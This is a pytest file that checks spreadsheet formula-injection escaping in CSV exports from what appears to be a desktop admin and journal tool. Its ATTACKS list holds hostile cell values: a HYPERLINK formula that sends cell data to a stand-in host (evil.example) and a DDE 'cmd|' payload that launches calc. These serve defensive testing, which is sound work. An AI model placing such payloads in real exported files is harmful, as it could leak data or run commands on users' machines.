from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from desktop.admin.bulk.cells import write_table
from desktop.core.spreadsheet_cells import guarded, unguarded
from desktop.journal.csv_file import to_csv
from desktop.journal.rates import StepRates

BEGINNINGS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
CALL = '=HYPERLINK("http://evil.example/?"&A1)'
ATTACKS = [
    CALL,
    f" {CALL}",
    f"\t{CALL}",
    f"\r\n{CALL}",
    f"ann;{CALL}",
    f"ann; {CALL}",
    f"ann\t{CALL}",
    f"ann\r{CALL}",
    f"ann|{CALL}",
    f"ann,{CALL}",
    f'ann"{CALL}',
    f'ann",{CALL}',
    f"ann;;\t;{CALL}",
    "ann;+1+cmd|' /C calc'!A0",
    "ann;-2+3",
    "ann;@SUM(A1)",
    "\uff1d1+1",
    "ann;\uff0b1",
]
HARMLESS = ["ann", "o'neil", "'x", "a-b", "ann+tag@example.com", "Doe, Ann", "a; b", "1=1", "", " "]


@pytest.mark.parametrize("cell", ATTACKS)
def test_whatever_a_spreadsheet_separates_by_no_cell_begins_like_a_formula(cell: str) -> None:
    """Excel takes its separator from the country it runs in; a text import splits by tabs as well."""
    written = write_table(["username", "result"], [[cell, "done"]]).decode("utf-8-sig")
    rows = written.split("\r\n", 1)[1]
    for separator in (",", ";", "\t", "|"):
        for row in csv.reader(io.StringIO(rows, newline=""), delimiter=separator):
            for read in row:
                assert not read.lstrip(' "').startswith(BEGINNINGS), (separator, read)


@pytest.mark.parametrize("cell", HARMLESS)
def test_what_is_no_formula_stays_as_it_is(cell: str) -> None:
    assert guarded(cell) == cell


@pytest.mark.parametrize("cell", [*ATTACKS, *HARMLESS, "'=1", "''=1", "a;'=1", "\t"])
def test_a_cell_comes_back_as_it_was(cell: str) -> None:
    assert unguarded(guarded(cell)) == cell


@given(st.text("=+-@;,\t\r\n\"' ab", max_size=12))
def test_any_cell_is_no_formula_and_comes_back(cell: str) -> None:
    assert not guarded(cell).startswith(BEGINNINGS)
    assert unguarded(guarded(cell)) == cell


def test_the_journals_numbers_are_guarded_the_same_way() -> None:
    rates = StepRates(f"x;{CALL}", 1, 1, 1, 1, 1, 1, person_median=-1.0)
    written = to_csv([rates])
    assert f"x;'{CALL}" in next(csv.reader(io.StringIO(written.split("\r\n", 1)[1])))
    assert "-1.000" in written, "a number stays a number"
